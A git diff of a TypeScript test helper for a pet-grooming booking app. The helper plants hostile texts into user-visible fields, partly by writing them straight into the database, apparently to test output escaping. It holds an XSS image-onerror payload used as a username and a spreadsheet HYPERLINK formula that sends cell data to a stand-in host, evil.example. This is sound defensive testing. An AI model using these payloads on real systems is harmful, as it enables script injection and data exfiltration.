@@ -1,3 +1,5 @@
+import { Database } from "bun:sqlite";
+import { join } from "node:path";
 import type { BookingView } from "#src/shared/bookings.ts";
 import type { Server } from "#tests/support/server.ts";
 import { signIn, type Walker } from "#tests/support/walks.ts";
@@ -21,7 +23,10 @@ export interface Planted {
   bookingId: number;
 }
 
-/** Writes texts, evil ones unless others are given, through the API into every field that shows what people wrote. */
+/**
+ * Writes texts, evil ones unless others are given, into every field that shows what people wrote: through the API, and
+ * names, streets and towns as earlier releases let people write them, because what they left is still shown.
+ */
 export async function plant(server: Server, texts = dealer()): Promise<Planted> {
   deal = texts;
   const parent = await caller(server, "demo_parent");
@@ -30,7 +35,7 @@ export async function plant(server: Server, texts = dealer()): Promise<Planted> 
   const { id: groomerUserId, groomerId } = await groomer<{ id: number; groomerId: number }>("GET", "/api/user");
   const { id: parentUserId } = await parent<{ id: number }>("GET", "/api/user");
 
-  await asGroomer(groomer, groomerUserId, groomerId);
+  await asGroomer(server, groomer, groomerUserId, groomerId);
   await withEvilBrowser(server);
   const { bookingId, agreedId } = await asParent(server, parent, parentUserId, groomerId);
   const reviewedId = await writesReview(parent);
@@ -64,21 +69,34 @@ const withEvilBrowser = ({ url }: Server) =>
     body: JSON.stringify({ username: "demo_groomer" }),
   });
 
+/** Puts a text where the API takes plain names only by now. */
+function leave({ dataDir }: Server, place: string, text: string, id: number) {
+  const [table, column] = place.split(".");
+  const db = new Database(join(dataDir, "mudroom.db"));
+  db.run("PRAGMA busy_timeout = 20000");
+  db.query(`UPDATE ${table} SET ${column} = ? WHERE id = ?`).run(text, id);
+  db.close();
+}
+
 interface Place {
   id: number;
   state: string;
   zipCode: string;
 }
 
-async function asGroomer(call: Call, userId: number, groomerId: number) {
-  await account(call, userId, { serviceRadius: 30 });
-  const profile = { businessName: word(), description: all(2000), showPhone: true, showEmail: true };
+async function asGroomer(server: Server, call: Call, userId: number, groomerId: number) {
+  await account(server, call, userId, { serviceRadius: 30 });
+  const profile = { description: all(2000), showPhone: true, showEmail: true };
   await call("PATCH", `/api/groomer-profiles/${groomerId}`, profile);
+  leave(server, "groomer_profiles.business_name", word(), groomerId);
+  leave(server, "groomer_profiles.contact_name", word(), groomerId);
   for (const { id } of await call<Place[]>("GET", `/api/service-packages/${groomerId}`)) {
-    await call("PATCH", `/api/service-packages/${id}`, { name: word(), description: all(1000) });
+    await call("PATCH", `/api/service-packages/${id}`, { description: all(1000) });
+    leave(server, "service_packages.name", word(), id);
   }
   for (const { id } of await call<Place[]>("GET", `/api/add-on-services/${groomerId}`)) {
-    await call("PATCH", `/api/add-on-services/${id}`, { name: word(), description: all(300) });
+    await call("PATCH", `/api/add-on-services/${id}`, { description: all(300) });
+    leave(server, "add_on_services.name", word(), id);
   }
   for (const { id } of await call<Place[]>("GET", `/api/portfolio-images?groomerId=${groomerId}`)) {
     await call("PATCH", `/api/portfolio-images/${id}`, { caption: all(200) });
@@ -87,19 +105,23 @@ async function asGroomer(call: Call, userId: number, groomerId: number) {
   await call("POST", "/api/unavailable-ranges", { startDate, endDate: startDate, note: all(200) });
 }
 
-async function account(call: Call, userId: number, more: object = {}) {
-  await call("PATCH", `/api/users/${userId}`, { fullName: word(), phoneNumber });
+async function account(server: Server, call: Call, userId: number, more: object = {}) {
+  await call("PATCH", `/api/users/${userId}`, { phoneNumber });
+  leave(server, "users.full_name", word(), userId);
   const { id, state, zipCode } = await call<Place>("GET", `/api/locations/${userId}`);
-  await call("PATCH", `/api/locations/${id}`, { address: all(200), city: deal(80), state, zipCode, ...more });
+  await call("PATCH", `/api/locations/${id}`, { address: "12 Any Street", city: "Asheville", state, zipCode, ...more });
+  leave(server, "locations.address", all(200), id);
+  leave(server, "locations.city", deal(80), id);
 }
 
 /** Pets, a request with them that stays open, one to be accepted, and one that is called off. */
 async function asParent(server: Server, call: Call, userId: number, groomerId: number) {
-  await account(call, userId);
+  await account(server, call, userId);
   const pets = await call<{ id: number }[]>("GET", "/api/pets");
   for (const { id } of pets) {
     const texts = { medicalInfo: all(1000), healthIssues: all(1000), specialInstructions: all(1000) };
-    await call("PATCH", `/api/pets/${id}`, { name: deal(60), breed: deal(80), ...texts });
+    await call("PATCH", `/api/pets/${id}`, { breed: deal(80), ...texts });
+    leave(server, "pets.name", deal(60), id);
   }
   const [offer] = await call<{ id: number }[]>("GET", `/api/service-packages/${groomerId}`);
   const addOns = await call<{ id: number }[]>("GET", `/api/add-on-services/${groomerId}`);
@@ -110,14 +132,17 @@ async function asParent(server: Server, call: Call, userId: number, groomerId: n
     petIds: pets.slice(0, 2).map(({ id }) => id),
     preferredDate: await nextOpenDay(server.url, `/groomer/${groomerId}`),
     preferredTimeSlot: "Morning (8AM - 12PM)",
-    serviceAddress: all(200),
-    serviceCity: deal(80),
+    serviceAddress: "12 Any Street",
+    serviceCity: "Asheville",
     serviceState: "NC",
     serviceZipCode: "28801",
   };
-  const ask = (name: string) => {
+  const ask = async (name: string) => {
     const texts = { petInfo: `${name}\n${all(1900)}`, specialInstructions: all(2000) };
-    return call<{ id: number }>("POST", "/api/bookings", { ...request, ...texts });
+    const asked = await call<{ id: number }>("POST", "/api/bookings", { ...request, ...texts });
+    leave(server, "bookings.service_address", all(200), asked.id);
+    leave(server, "bookings.service_city", deal(80), asked.id);
+    return asked;
   };
   const [open, agreed, off] = [await ask("Waffles"), await ask("Pickle"), await ask("Olive")];
   await call("PATCH", `/api/bookings/${off.id}/status`, { status: "cancelled", reason: all(300) });
@@ -148,17 +173,20 @@ async function answersRequests(call: Call, evilIds: number[]) {
 
 /** A groomer whose very username is markup, and whose business a spreadsheet would run. */
 async function newcomer(server: Server): Promise<number> {
-  const fields = { ...signUpFields("newcomer"), role: "groomer", username: "<img/src=x/onerror=__xss=1>" };
   const response = await fetch(`${server.url}/api/register`, {
     method: "POST",
     headers: { "content-type": "application/json" },
-    body: JSON.stringify({ ...fields, fullName: word(), city: deal(80), phoneNumber }),
+    body: JSON.stringify({ ...signUpFields("newcomer"), role: "groomer", phoneNumber }),
   });
   const { id } = (await response.json()) as { id: number };
   const cookie = response.headers.getSetCookie()[0]!.split(";")[0]!;
   const call = callWith(server, cookie);
-  const businessName = `=HYPERLINK("https://evil.example?"&A1)`;
-  await call("POST", "/api/groomer-profiles", { businessName, description: all(2000) });
+  const business = { businessName: "New Van", description: all(2000) };
+  const profile = await call<{ id: number }>("POST", "/api/groomer-profiles", business);
+  leave(server, "users.username", "<img/src=x/onerror=__xss=1>", id);
+  leave(server, "users.full_name", word(), id);
+  leave(server, "groomer_profiles.business_name", `=HYPERLINK("https://evil.example?"&A1)`, profile.id);
+  leave(server, "locations.city", deal(80), (await call<Place>("GET", `/api/locations/${id}`)).id);
   return id;
 }
 
